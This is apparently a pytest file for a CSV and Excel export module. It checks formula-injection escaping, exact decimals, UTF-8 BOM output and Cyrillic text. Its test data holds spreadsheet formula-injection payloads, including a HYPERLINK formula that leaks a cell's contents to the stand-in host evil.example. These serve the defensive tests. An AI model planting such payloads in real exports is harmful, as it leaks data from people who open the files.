"""CSV and Excel export: formula-injection escaping, exact decimals, non-Latin text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from lib.export import escape_cell, escaped, to_csv, to_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "-1+2",
    "@SUM(A1:A9)",
    "+49 30 1234",
    "=1+1",
    "\t=cmd",
    "\r=cmd",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Silk scarf", "Вибратор", "a=b", "", "'already", Decimal("-1.50"), -3, 2.5, None]
)
def test_other_values_are_left_alone(value: object) -> None:
    assert escape_cell(value) == value


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Name": ['=HYPERLINK("http://evil.example", "Click")', "-1+2", "@SUM(A1)", "Вибратор"],
            "Margin": [Decimal("-5.123456"), Decimal("0.10"), None, Decimal("1234567.891234")],
            "TCC enabled": [True, False, True, None],
        }
    )


def test_escaped_copies_and_escapes_headings_too() -> None:
    original = frame().rename(columns={"Name": "=Name"})
    safe = escaped(original)
    assert list(safe.columns) == ["'=Name", "Margin", "TCC enabled"]
    assert original.iloc[1, 0] == "-1+2"  # the input is not modified


def test_csv_has_a_bom_escaped_text_and_exact_numbers() -> None:
    data = to_csv(frame())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [
        ["Name", "Margin", "TCC enabled"],
        ['\'=HYPERLINK("http://evil.example", "Click")', "-5.123456", "True"],
        ["'-1+2", "0.10", "False"],
        ["'@SUM(A1)", "", "True"],
        ["Вибратор", "1234567.891234", ""],
    ]


def test_xlsx_cells_are_text_or_numbers_never_formulas() -> None:
    table = frame()
    table["Fetched"] = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)
    table.loc[3, "Name"] = "bell\x07 in a name"
    workbook = load_workbook(io.BytesIO(to_xlsx(table, sheet_name="Catalog")))
    sheet = workbook["Catalog"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Name", "Margin", "TCC enabled", "Fetched")
    assert [row[0] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example", "Click")',
        "'-1+2",
        "'@SUM(A1)",
        "bell\N{REPLACEMENT CHARACTER} in a name",
    ]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert [row[1] for row in rows[1:]] == [-5.123456, 0.1, None, 1234567.891234]
    assert rows[1][3] == datetime(2026, 3, 1, 12, 30)


def test_an_empty_frame_exports_its_headings() -> None:
    empty = pd.DataFrame(columns=["ps id", "Name"])
    assert to_csv(empty).decode("utf-8-sig").splitlines() == ["ps id,Name"]
    sheet = load_workbook(io.BytesIO(to_xlsx(empty))).active
    assert list(sheet.iter_rows(values_only=True)) == [("ps id", "Name")]


def test_missing_figures_of_nullable_columns_are_empty_cells() -> None:
    # Own stock unknown for a product: a nullable integer column holds pd.NA.
    table = pd.DataFrame({"SKU": ["A", "B"], "Own on hand": pd.array([3, None], dtype="Int64")})
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert list(sheet.iter_rows(values_only=True)) == [
        ("SKU", "Own on hand"),
        ("A", 3),
        ("B", None),
    ]
